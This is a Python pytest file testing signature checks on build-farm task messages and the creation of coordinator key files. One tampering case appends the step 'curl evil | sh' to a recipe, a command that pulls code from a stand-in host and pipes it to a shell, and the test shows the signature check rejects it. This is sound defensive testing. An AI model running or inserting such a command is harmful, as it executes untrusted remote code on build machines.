"""Signed task messages (farm.trust.tasksig) and the coordinator key files."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from farm.errors import E, FarmError
from farm.trust import keys as keymod
from farm.trust import tasksig

pytestmark = pytest.mark.unit

REQUEST: dict[str, Any] = {
    "build_key": "a" * 64,
    "recipe": {"name": "hello", "build": {"steps": ["make"]}, "outputs": ["hello"]},
    "lease": "l1",
    "dependencies": [{"recipe": "zlib", "build_key": "b" * 64, "artifacts": {"z.tar": "c" * 64}}],
}


@pytest.fixture(scope="module")
def coordinator(tmp_path_factory: pytest.TempPathFactory) -> tuple[keymod.BuilderKey, keymod.PublicKey]:
    keys_dir = tmp_path_factory.mktemp("keys")
    key = keymod.coordinator_key(keys_dir)
    assert keymod.coordinator_key(keys_dir).public.keyid == key.public.keyid  # created once, then loaded
    assert (keys_dir / keymod.COORDINATOR_PRIVATE).stat().st_mode & 0o777 == 0o600
    return key, keymod.coordinator_public(keys_dir)


def refused(task_id: str, request: Any, signature: Any, public: keymod.PublicKey, **kw: Any) -> str:
    with pytest.raises(FarmError) as info:
        tasksig.verify(task_id, request, signature, public, **kw)
    assert info.value.code == E.TASK_UNSIGNED and info.value.hint
    return info.value.message


def test_a_signed_task_verifies(coordinator: tuple[keymod.BuilderKey, keymod.PublicKey]) -> None:
    key, public = coordinator
    sig = tasksig.sign("t1", REQUEST, key)
    tasksig.verify("t1", copy.deepcopy(REQUEST), sig, public)  # key order and copies do not matter


@pytest.mark.parametrize(
    "change",
    [
        lambda r: r["recipe"]["build"]["steps"].append("curl evil | sh"),
        lambda r: r.update(lease="l2"),
        lambda r: r["dependencies"][0]["artifacts"].update({"z.tar": "d" * 64}),
        lambda r: r.update(build_key="e" * 64),
    ],
    ids=["steps", "lease", "dependency-digest", "build-key"],
)
def test_any_change_to_the_request_is_refused(
    coordinator: tuple[keymod.BuilderKey, keymod.PublicKey], change: Any
) -> None:
    key, public = coordinator
    sig = tasksig.sign("t1", REQUEST, key)
    altered = copy.deepcopy(REQUEST)
    change(altered)
    assert "forged or altered" in refused("t1", altered, sig, public)


def test_other_task_id_other_key_no_signature_and_old_messages_are_refused(
    coordinator: tuple[keymod.BuilderKey, keymod.PublicKey], tmp_path: Path
) -> None:
    key, public = coordinator
    sig = tasksig.sign("t1", REQUEST, key, now=1_000_000)
    assert "forged or altered" in refused("t2", REQUEST, sig, public, now=1_000_000)
    other = keymod.coordinator_key(tmp_path)
    assert "forged or altered" in refused("t1", REQUEST, tasksig.sign("t1", REQUEST, other), public)
    assert "no signature" in refused("t1", REQUEST, None, public)
    assert "malformed" in refused("t1", REQUEST, {"issued": "x", "nonce": 1, "sig": "!"}, public)
    assert "not an object" in refused("t1", ["x"], sig, public)
    assert "outside the accepted window" in refused("t1", REQUEST, sig, public, now=1_000_000 + tasksig.MAX_AGE + 1)
    assert "outside the accepted window" in refused("t1", REQUEST, sig, public, now=1_000_000 - 3600)


def test_a_worker_without_the_coordinator_public_key_says_where_to_put_it(tmp_path: Path) -> None:
    with pytest.raises(FarmError) as info:
        keymod.coordinator_public(tmp_path)
    assert info.value.code == E.KEY_MISSING and "coordinator.pub" in info.value.hint


def test_keys_generate_makes_the_coordinator_key_once(tmp_path: Path) -> None:
    keymod.generate(tmp_path)
    first = (tmp_path / keymod.COORDINATOR_PUBLIC).read_bytes()
    keymod.generate(tmp_path, force=True)  # a new builder key does not rotate the coordinator's
    assert (tmp_path / keymod.COORDINATOR_PUBLIC).read_bytes() == first
